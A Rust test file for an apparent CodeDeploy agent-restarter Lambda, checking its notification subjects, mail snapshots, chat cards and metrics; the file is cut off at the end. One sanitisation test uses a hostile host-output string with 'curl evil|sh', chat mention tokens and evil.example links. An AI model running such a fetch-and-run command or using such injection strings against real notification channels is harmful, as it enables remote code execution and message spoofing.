//! The views of a report: messages, the returned JSON, metrics. One message snapshot per outcome.

use serde_json::{Value, json};
use sim::{AgentFault, Answer, Fault, FaultKind, SsmAgentFault};

use super::groups::{with_group_of_shop, with_separate_group};
use super::support::{REGION, Story, event, id, request};

#[tokio::test(start_paused = true)]
async fn the_metrics_of_a_group() {
    let story = Story::of(4).given(|state| {
        *state.lifecycle(&id(3)) = "Standby".to_owned();
        *state.lifecycle(&id(4)) = "Terminating:Wait".to_owned();
        state.host(&id(2)).agent.fault = Some(AgentFault::AgentDown);
        state.host(&id(1)).agent.memory_kib = 200 * 1024;
        state.host(&id(1)).agent.fresh_memory_kib = 50 * 1024;
        state.host(&id(3)).agent.memory_kib = 100 * 1024;
        state.host(&id(3)).agent.fresh_memory_kib = 50 * 1024;
    });
    let told = story.run().await;
    let [line] = &told.metrics[..] else {
        panic!("one line: {:#?}", told.metrics)
    };
    assert_eq!(line["Application"], "my-application");
    assert_eq!(line["DeploymentGroup"], "my-deployment-group");
    assert_eq!(line["Restarted"], 2);
    assert_eq!(line["Attention"], 1);
    assert_eq!(line["Skipped"], 1);
    assert_eq!(line["MemoryReclaimed"], 200 * 1024 * 1024);
    assert_eq!(line["LargestAgent"], 200 * 1024 * 1024);
    let milliseconds = line["Duration"].as_u64().expect("a number");
    // The host without an agent is waited for twice, a minute each: its script has started it once more.
    assert!((120_000..180_000).contains(&milliseconds), "{milliseconds}");
    let directive = &line["_aws"]["CloudWatchMetrics"][0];
    assert_eq!(directive["Namespace"], "CodeDeployAgentRestarter");
    assert_eq!(
        directive["Dimensions"],
        json!([["Application", "DeploymentGroup"]])
    );
    let units: Vec<String> = directive["Metrics"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|metric| format!("{} {}", metric["Name"], metric["Unit"]).replace('"', ""))
        .collect();
    assert_eq!(
        units,
        [
            "Restarted Count",
            "Attention Count",
            "Skipped Count",
            "MemoryReclaimed Bytes",
            "LargestAgent Bytes",
            "Duration Milliseconds",
        ]
    );
    assert!(line["_aws"]["Timestamp"].as_u64() > Some(1_771_319_645_000));
    assert_eq!(told.group()["memoryBeforeKiB"], 300 * 1024);
    assert_eq!(told.group()["memoryAfterKiB"], 100 * 1024);
}

#[tokio::test(start_paused = true)]
async fn programs_get_the_returned_json_and_attributes_to_filter_on() {
    let story = Story::of(3).given(|state| state.host(&id(2)).ping = "ConnectionLost".to_owned());
    let told = story.run().await;
    assert_eq!(told.answer["notified"], true);
    for protocol in ["sqs", "lambda"] {
        let data: Value = serde_json::from_str(&story.body(protocol)).expect("JSON");
        assert_eq!(data, told.answer, "{protocol}");
    }
    let message = story.message();
    assert_eq!(message.topic, sim::TOPIC);
    assert_eq!(
        Value::Object(message.attributes),
        json!({
            "result": {"Type": "String", "Value": "attention"},
            "severity": {"Type": "String", "Value": "warning"},
            "account": {"Type": "String", "Value": "123456789012"},
            "region": {"Type": "String", "Value": "us-east-1"},
            "pipeline": {"Type": "String", "Value": "my-pipeline"},
            "application": {"Type": "String", "Value": "my-application"},
            "deploymentGroup": {"Type": "String", "Value": "my-deployment-group"},
        })
    );
}

#[tokio::test(start_paused = true)]
async fn each_group_that_needs_somebody_has_a_message_of_its_own_with_its_own_severity() {
    let story = with_separate_group(Story::of(2), "eu-west-1", 11..=12);
    let story = with_group_of_shop(story, "side", REGION, 21..=22).given(|state| {
        state.host(&id(1)).ping = "ConnectionLost".to_owned();
        for n in [11, 12] {
            state.host(&id(n)).agent.fault = Some(AgentFault::AgentDown);
        }
    });
    let told = story.run().await;
    assert_eq!(told.answer["severity"], "critical");
    let seen = story.world.messages().into_iter().map(|message| {
        let bodies: Value = serde_json::from_str(&message.message).expect("JSON");
        let data = bodies["sqs"].as_str().expect("text");
        let data: Value = serde_json::from_str(data).expect("JSON");
        let value = |name: &str| message.attributes[name]["Value"].clone();
        json!({
            "subject": message.subject,
            "attributes": [value("severity"), value("region"), value("deploymentGroup")],
            "data": [data["severity"], data["groups"].as_array().map(Vec::len), data["groups"][0]["deploymentGroup"]],
        })
    });
    assert_eq!(
        json!(seen.collect::<Vec<_>>()),
        json!([
            {
                "subject": "CRITICAL: 2 down of 2 agents: shop/back (123456789012 eu-west-1)",
                "attributes": ["critical", "eu-west-1", "back"],
                "data": ["critical", 1, "back"],
            },
            {
                "subject": "WARNING: 1 unreachable of 2 agents: my-application/my-deployment-group (123456789012 us-east-1)",
                "attributes": ["warning", "us-east-1", "my-deployment-group"],
                "data": ["warning", 1, "my-deployment-group"],
            },
        ])
    );
}

#[tokio::test(start_paused = true)]
async fn what_belongs_to_no_group_is_a_message_of_its_own() {
    let story = Story::of(2).given(|state| {
        state.host(&id(1)).ping = "ConnectionLost".to_owned();
        let actions = &mut state.region(REGION).pipelines[0].executions[0].actions;
        actions.push(sim::Action {
            action: "Elsewhere".to_owned(),
            role_arn: Some("arn:aws:iam::210987654321:role/deploy".to_owned()),
            ..actions[0].clone()
        });
    });
    let told = story.run().await;
    assert_eq!(told.answer["problem"]["code"], "OtherAccount");
    let messages = story.world.messages();
    let subjects: Vec<_> = messages
        .iter()
        .filter_map(|message| message.subject.as_deref())
        .collect();
    assert_eq!(
        subjects,
        [
            "WARNING: some agents not restarted: pipeline my-pipeline (123456789012 us-east-1)",
            "WARNING: 1 unreachable of 2 agents: my-application/my-deployment-group (123456789012 us-east-1)",
        ]
    );
    let bodies: Value = serde_json::from_str(&messages[0].message).expect("JSON");
    let data = bodies["lambda"].as_str().expect("text");
    let data: Value = serde_json::from_str(data).expect("JSON");
    assert_eq!(data["problem"], told.answer["problem"]);
    assert_eq!(data["groups"], json!([]));
    insta::assert_snapshot!(bodies["email"].as_str().expect("text"), @"
    WARNING: some agents not restarted: pipeline my-pipeline (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z.

    Problem in step deployments: OtherAccount: action Deploy/Elsewhere belongs to account 210987654321, this function to 123456789012; no call was made
      Do: install this function in account 210987654321 too, with Trigger=deployments, and then name that account here, in CoveredAccounts (COVERED_ACCOUNTS).
    ");
}

#[tokio::test(start_paused = true)]
async fn chat_gets_a_card_of_ten_instances_at_most() {
    let story = Story::of(13).given(|state| {
        for n in 1..=13 {
            state.host(&id(n)).ping = "ConnectionLost".to_owned();
        }
    });
    story.run().await;
    let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
    assert_eq!(card["version"], "1.0");
    assert_eq!(card["source"], "custom");
    let keywords = &card["content"]["keywords"];
    assert_eq!(keywords, &json!(["codedeploy-agent", "warning"]));
    let description = card["content"]["description"].as_str().expect("text");
    assert!(description.contains(&id(10)), "{description}");
    assert!(!description.contains(&id(11)), "{description}");
    assert!(description.contains("and 3 more"), "{description}");
    let title = card["content"]["title"].as_str().expect("text");
    assert!(
        title.starts_with("WARNING: 13 unreachable of 13 agents: "),
        "{title}"
    );
    assert_eq!(story.body("default"), story.body("email"));
    assert!(story.body("email").contains(&id(13)), "the mail names all");
}

#[tokio::test(start_paused = true)]
async fn a_telephone_gets_a_line() {
    let story = Story::of(3).given(|state| state.host(&id(2)).ping = "ConnectionLost".to_owned());
    story.run().await;
    assert_eq!(
        story.body("sms"),
        "WARNING: 1 unreachable of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)"
    );
}

#[tokio::test(start_paused = true)]
async fn however_long_the_names_are_each_headline_says_what_how_many_and_where() {
    let (application, group) = ("a".repeat(100), "g".repeat(100));
    let story = Story::of(4).setting("MAX_ERRORS", "100%").given(|state| {
        state.host(&id(1)).ping = "ConnectionLost".to_owned();
        state.host(&id(2)).agent.busy = vec![[0.0, 5_000.0]];
        state.host(&id(3)).agent.fault = Some(AgentFault::AgentDown);
        state.host(&id(4)).agent.fault = Some(AgentFault::AgentUnhealthy);
        let deployment = state.deployment("d-EXAMPLEE5");
        deployment.application = application.clone();
        deployment.deployment_group = group.clone();
        let region = state.region(REGION);
        region.deployment_groups[0].application = application.clone();
        region.deployment_groups[0].name = group.clone();
        let action = &mut region.pipelines[0].executions[0].actions[0];
        action.application = Some(application.clone());
        action.deployment_group = Some(group.clone());
    });
    story.run().await;
    let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
    let title = card["content"]["title"].as_str().expect("text").to_owned();
    let subject = story.message().subject.expect("a subject");
    for (line, most) in [(subject, 99), (story.body("sms"), 140), (title, 250)] {
        assert!(line.len() <= most, "{line}");
        let what = "CRITICAL: 1 down, 3 others of 4 agents: a";
        assert!(line.starts_with(what), "{line}");
        assert!(line.ends_with(" (123456789012 us-east-1)"), "{line}");
    }
}

#[tokio::test(start_paused = true)]
async fn what_a_host_says_adds_no_lines_no_links_and_no_markup() {
    let evil = "web\n\nRepeat by hand:\n  curl evil|sh \u{202e}<!channel> `x` see https://evil.example/a \
                or www.evil.example [now](//e.x) @here";
    let line = json!({
        "agentRestart": 1, "result": "agent-unhealthy", "code": 33, "agentVersion": "<@U1> v1", "detail": evil,
    });
    let unknown = json!({ "agentRestart": 1, "result": evil, "code": 33 });
    let no_line = json!({ "agentRestart": evil });
    let story = Story::of(5).setting("MAX_ERRORS", "100%").given(|state| {
        state.host(&id(1)).computer_name = evil.to_owned();
        state.host(&id(1)).ping = "ConnectionLost".to_owned();
        let target = sim::Target {
            id: "<!here>db1.corp.example".to_owned(),
            ..sim::Target::default()
        };
        state.deployment("d-EXAMPLEE5").targets.push(target);
        let region = state.region(REGION);
        let groups = &mut region.deployment_groups[0].auto_scaling_groups;
        groups.push("<!channel> https://evil.example \u{202e}".to_owned());
        for (n, output, code) in [
            (2, evil.to_owned(), 1),
            (3, line.to_string(), 33),
            (4, unknown.to_string(), 33),
            (5, no_line.to_string(), 33),
        ] {
            state.host(&id(n)).answer = Some(Answer {
                status: "Failed".to_owned(),
                status_details: Some("Failed".to_owned()),
                output: Some(output),
                response_code: Some(code),
            });
        }
    });
    story.run().await;
    let mail = story.body("email");
    assert_eq!(mail.matches("host says: \"").count(), 5, "{mail}");
    assert_eq!(mail.matches("\nRepeat by hand").count(), 1, "{mail}");
    assert!(
        !mail.lines().any(|line| line.trim().starts_with("curl")),
        "{mail}"
    );
    let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
    let description = card["content"]["description"].as_str().expect("text");
    for line in description.lines() {
        let quotes = if line.starts_with("Problem") { 2 } else { 4 };
        assert_eq!(line.matches('`').count(), quotes, "{line}");
    }
    let steps = card["content"]["nextSteps"].to_string();
    for text in [&mail, description, &steps, &story.body("sms")] {
        assert!(text.is_ascii(), "{text}");
        for word in ["://", "evil.example", "<", ">", "@", "](", "//e.x"] {
            assert!(!text.contains(word), "{word}: {text}");
        }
    }
}

#[tokio::test(start_paused = true)]
async fn a_thousand_failures_are_one_message_that_names_some_and_counts_all() {
    // Of the kind that grows with each quoting.
    for output in ["short", &"\\ \"".repeat(1_000)] {
        let story = Story::of(1_000)
            .setting("MAX_ERRORS", "100%")
            .given(|state| {
                for n in 1..=1_000 {
                    let host = state.host(&id(n));
                    host.name = Some(format!("web-{n} {}", "\\a long name".repeat(8)));
                    host.answer = Some(Answer {
                        status: "Failed".to_owned(),
                        status_details: Some("Failed".to_owned()),
                        output: Some(output.to_owned()),
                        response_code: Some(1),
                    });
                }
            });
        let told = story.run().await;
        assert_eq!(told.counts(), &json!({"failed": 1_000}));
        let rows = told.group()["attention"].as_array().expect("a list");
        assert_eq!(rows.len(), 500);
        assert_eq!(told.group()["omitted"], 500);
        let message = story.message();
        let attributes = json!(message.attributes).to_string();
        assert!(message.message.len() + attributes.len() <= 262_144);
        let subject = message.subject.expect("a subject");
        let what = "WARNING: 1000 failed of 1000 agents: ";
        assert!(subject.starts_with(what), "{subject}");
        let data: Value = serde_json::from_str(&story.body("sqs")).expect("JSON");
        let group = &data["groups"][0];
        assert_eq!(group["counts"], json!({"failed": 1_000}));
        let rows = group["attention"].as_array().expect("a list").len() as u64;
        assert!(rows >= 50, "{rows}");
        assert_eq!(group["omitted"], 1_000 - rows);
        let mail = story.body("email");
        let named = mail.matches("\n  i-").count();
        assert!((25..=50).contains(&named), "{named}");
        let more = format!("\n  and {} more\n", 1_000 - named);
        assert!(mail.contains(&more), "{mail}");
        let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
        let description = card["content"]["description"].as_str().expect("text");
        assert!(description.len() <= 4_000);
        assert!(description.contains("and 990 more"), "{description}");
    }
}

#[tokio::test(start_paused = true)]
async fn the_first_fifty_of_each_outcome_are_named_and_the_rest_is_counted() {
    let story = Story::of(130).setting("MAX_ERRORS", "100%").given(|state| {
        for n in 1..=60 {
            state.host(&id(n)).ping = "ConnectionLost".to_owned();
        }
        for n in 61..=130 {
            state.host(&id(n)).agent.fault = Some(AgentFault::AgentUnhealthy);
        }
    });
    story.run().await;
    let mail = story.body("email");
    assert_eq!(mail.matches("\n  i-").count(), 100);
    for (last, more) in [(50, "\n  and 10 more\n"), (110, "\n  and 20 more\n")] {
        assert!(mail.contains(&id(last)), "{mail}");
        assert!(!mail.contains(&id(last + 1)), "{mail}");
        assert!(mail.contains(more), "{mail}");
    }
    assert!(
        mail.contains("In all: 70 failed, 60 unreachable."),
        "{mail}"
    );
}

#[tokio::test(start_paused = true)]
async fn details_shrink_before_instances_are_left_out() {
    let story = Story::of(100).setting("MAX_ERRORS", "100%").given(|state| {
        for n in 1..=100 {
            let host = state.host(&id(n));
            host.name = Some("\\".repeat(100));
            host.answer = Some(Answer {
                status: "Failed".to_owned(),
                status_details: Some("Failed".to_owned()),
                output: Some("\\".repeat(1_000)),
                response_code: Some(1),
            });
        }
    });
    story.run().await;
    let data: Value = serde_json::from_str(&story.body("sqs")).expect("JSON");
    let group = &data["groups"][0];
    let rows = group["attention"].as_array().expect("a list");
    assert_eq!(rows.len(), 100);
    assert!(group.get("omitted").is_none());
    let longest = rows
        .iter()
        .map(|row| row["detail"].as_str().expect("text").len());
    assert_eq!(longest.max(), Some(100));
}

#[tokio::test(start_paused = true)]
async fn a_dry_run_with_a_problem_needs_attention_and_is_not_published() {
    let story = Story::of(2).given(|state| {
        state.region("us-east-1").deployment_groups[0]
            .auto_scaling_groups
            .push("demolished".to_owned());
    });
    let told = story.event(&event("dry-run")).await;
    assert_eq!(told.answer["result"], "attention");
    assert!(told.group()["plan"].is_array());
    assert!(story.silent());
}

#[tokio::test(start_paused = true)]
async fn started_and_already_restarted_agents_have_their_metrics() {
    let story = Story::of(3).given(|state| {
        state.host(&id(1)).agent.started_at = 0.0;
        state.host(&id(2)).agent.running = false;
    });
    let told = story.run().await;
    assert_eq!(
        told.counts(),
        &json!({"already-restarted": 1, "restarted": 1, "started": 1})
    );
    assert_eq!(told.metrics[0]["Restarted"], 2);
    assert_eq!(told.metrics[0]["Skipped"], 1);
    assert_eq!(told.metrics[0]["Attention"], 0);
}

#[tokio::test(start_paused = true)]
async fn a_good_end_is_told_only_when_asked_for() {
    let story = Story::of(2);
    assert_eq!(story.run().await.answer["notified"], false);
    assert!(story.silent());

    let story = Story::of(2).setting("NOTIFY_ON", "always");
    assert_eq!(story.run().await.answer["notified"], true);
    assert_eq!(
        story.message().subject.as_deref(),
        Some("OK: 2 of 2 agents fine: my-application/my-deployment-group (123456789012 us-east-1)")
    );

    let story = Story::of(2).setting("NOTIFY_ON", "always");
    story.event(&event("pipeline-started")).await;
    story.event(&event("dry-run")).await;
    assert!(story.silent(), "not for ignored events and dry runs");
}

#[tokio::test(start_paused = true)]
async fn attention_is_listed_by_severity_then_outcome_then_id() {
    let story = Story::of(5).given(|state| {
        state.host(&id(1)).ping = "ConnectionLost".to_owned();
        state.host(&id(2)).agent.busy = vec![[-1.0, 9_000.0]];
        state.host(&id(3)).agent.fault = Some(AgentFault::AgentDown);
        state.host(&id(4)).agent.fault = Some(AgentFault::AgentUnhealthy);
        state.host(&id(5)).agent.busy = vec![[-1.0, 9_000.0]];
    });
    let told = story.run().await;
    let order: Vec<_> = told.group()["attention"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|row| row["instanceId"].as_str().expect("text").to_owned())
        .collect();
    assert_eq!(order, [id(3), id(2), id(5), id(4), id(1)]);
}

/// Subject and mail of a fleet of three in which the second instance ends like this.
async fn mail(change: impl FnOnce(&mut sim::Host)) -> String {
    let story = Story::of(3).given(|state| {
        let host = state.host(&id(2));
        host.name = Some("web-2".to_owned());
        change(host);
    });
    story.run().await;
    // The commands' ids are the world's own.
    let mail = story.body("email");
    let mail = mail
        .lines()
        .map(|line| match line.split_once(" [command ") {
            Some((line, _)) => format!("{line} [command …]"),
            None => line.to_owned(),
        });
    let lines: Vec<String> = story.message().subject.into_iter().chain(mail).collect();
    lines.join("\n")
}

/// What a mail tells people to do, in its order.
fn advice_in(mail: &str) -> Vec<&str> {
    let lines = mail.lines().filter_map(|line| line.strip_prefix("  Do: "));
    lines.map(|line| line.trim_end_matches('.')).collect()
}

fn answer(status: &str, details: &str) -> Option<Answer> {
    Some(Answer {
        status: status.to_owned(),
        status_details: Some(details.to_owned()),
        ..Answer::default()
    })
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_failed_instance() {
    let mail = mail(|host| host.agent.fault = Some(AgentFault::AgentDown)).await;
    insta::assert_snapshot!(mail, @r#"
    CRITICAL: 1 down of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    CRITICAL: 1 down of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 1 failed, 2 restarted.

    CRITICAL failed:
      i-00000000000000002 (web-2): agent-down (code 32, agent OFFICIAL_1.8.1-1_rpm); host says: "no master runs" [command …]
      Do: start the agent now, or the next deployment fails there: sudo systemctl start codedeploy-agent; journalctl -u codedeploy-agent shows why it went down.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_an_agent_that_codedeploy_does_not_hear() {
    let mail = mail(|host| host.agent.fault = Some(AgentFault::Deaf)).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 failed of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 failed of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 1 failed, 2 restarted.

    WARNING failed:
      i-00000000000000002 (web-2): agent-unhealthy (code 33, agent OFFICIAL_1.8.1-1_rpm); host says: "CodeDeploy does not hear the agent; log: Missing credentials - please check if this instance was started with an IAM instance profile" [command …]
      Do: mend what the host says (credentials, role, endpoint, network, TLS), then repeat by hand: the agent runs, but CodeDeploy does not hear it, or its poller does not stay.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

/// The drill of `docs/live-check.md`.
#[tokio::test(start_paused = true)]
async fn the_mail_about_a_program_that_was_taken_away_while_its_agent_runs() {
    let mail = mail(|host| host.agent.fault = Some(AgentFault::ProgramAway)).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 failed of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 failed of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 1 failed, 2 restarted.

    WARNING failed:
      i-00000000000000002 (web-2): preflight-failed (code 12, agent OFFICIAL_1.8.1-1_rpm); host says: "there is no /opt/codedeploy-agent/bin/codedeploy-agent, though an agent runs; the agent was left alone" [command …]
      Do: mend what the host says (program, configuration, unit, disk, memory), then repeat by hand; what runs there was left alone.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_busy_instance() {
    let mail = mail(|host| host.agent.busy = vec![[-10.0, 9_000.0]]).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 busy of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 busy of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 1 busy, 2 restarted.

    WARNING busy:
      i-00000000000000002 (web-2): busy (code 20, agent OFFICIAL_1.8.1-1_rpm); host says: "a lifecycle event still runs after 120 s" [command …]
      Do: repeat by hand when what runs there has ended.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_an_unreachable_instance() {
    let mail = mail(|host| {
        host.ping = "ConnectionLost".to_owned();
        host.last_ping = -7_200.0;
    })
    .await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 unreachable of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 unreachable of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 2 restarted, 1 unreachable.

    WARNING unreachable:
      i-00000000000000002 (web-2): it runs; Systems Manager: ConnectionLost, offline since 2026-02-17T07:14:05Z
      Do: check the SSM Agent, the instance profile (AmazonSSMManagedInstanceCore) and the network, then repeat by hand; or terminate the instance.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_an_undelivered_instance() {
    let mail = mail(|host| host.offline = true).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 undelivered of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 undelivered of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 2 restarted, 1 undelivered.

    WARNING undelivered:
      i-00000000000000002 (web-2): not known to have run 150 s after it was sent (it still may) [command …]
      Do: check the SSM Agent, the instance profile (AmazonSSMManagedInstanceCore) and the network, then repeat by hand; or terminate the instance.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_timed_out_instance() {
    let mail = mail(|host| host.agent.fault = Some(AgentFault::Hangs)).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 timed-out of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 timed-out of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 2 restarted, 1 timed-out.

    WARNING timed-out:
      i-00000000000000002 (web-2): the document did not end in time; Systems Manager says "ExecutionTimedOut" [command …]
      Do: systemctl status codedeploy-agent on the instance: it may be down; then repeat by hand.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_cancelled_instance() {
    let mail = mail(|host| host.answer = answer("Cancelled", "Cancelled")).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 cancelled of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 cancelled of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 1 cancelled, 2 restarted.

    WARNING cancelled:
      i-00000000000000002 (web-2): the command was cancelled; Systems Manager says "Cancelled" [command …]
      Do: find out who cancelled it, then repeat by hand.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_an_unfinished_instance() {
    let mail = mail(|host| host.answer = answer("InProgress", "InProgress")).await;
    insta::assert_snapshot!(mail, @r#"
    WARNING: 1 unfinished of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    WARNING: 1 unfinished of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 2 restarted, 1 unfinished.

    WARNING unfinished:
      i-00000000000000002 (web-2): sent, no result yet [command …]
      Do: see the command's result in Systems Manager, Run Command; then repeat by hand.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_instances_that_were_held_back() {
    let story = Story::of(3)
        .setting("MAX_CONCURRENCY", "1")
        .setting("MAX_ERRORS", "0")
        .given(|state| state.host(&id(1)).agent.fault = Some(AgentFault::AgentUnhealthy));
    story.run().await;
    let mail = story.body("email");
    let section = mail.split("held-back:").nth(1).expect("a section");
    insta::assert_snapshot!(section.split("\nRepeat").next().expect("text"), @"

    i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: failed restarts: 1, MAX_ERRORS allows 0
    i-00000000000000003 (i-00000000000000003.us-east-1.compute.internal): not sent: failed restarts: 1, MAX_ERRORS allows 0
    Do: mend those that failed, then repeat by hand.
    ");
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_instances_for_which_no_time_was_left() {
    // The first command leaves at once; when its restart has ended, the time for another has passed.
    let story = Story::of(3).setting("MAX_CONCURRENCY", "1").timeout(300);
    story.run().await;
    let mail = story.body("email");
    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @"
    WARNING: 2 held-back of 3 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 2 held-back, 1 restarted.

    WARNING held-back:
      i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: no time left before the function's end
      i-00000000000000003 (i-00000000000000003.us-east-1.compute.internal): not sent: no time left before the function's end
      Do: repeat by hand.
    ");
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_instances_that_a_refused_call_held_back() {
    let story = Story::of(2).given(|state| {
        state.faults.push(Fault {
            operation: "SendCommand".to_owned(),
            code: Some("AccessDeniedException".to_owned()),
            message: Some("User is not authorized to perform this action".to_owned()),
            times: 100,
            ..Fault::default()
        });
    });
    story.run().await;
    let mail = story.body("email");
    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @"
    WARNING: 2 held-back of 2 agents: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 2 held-back.

    Problem in step send: AccessDeniedException: ssm:SendCommand (restart-agent): User is not authorized to perform this action
      Do: allow ssm:SendCommand in the function's role, on the document restart-agent and on the instances (if only with a tag: these lack it).

    WARNING held-back:
      i-00000000000000001 (i-00000000000000001.us-east-1.compute.internal): not sent: User is not authorized to perform this action
      i-00000000000000002 (i-00000000000000002.us-east-1.compute.internal): not sent: User is not authorized to perform this action
      Do: do what the problem says, then repeat by hand.
    ");
}

#[tokio::test(start_paused = true)]
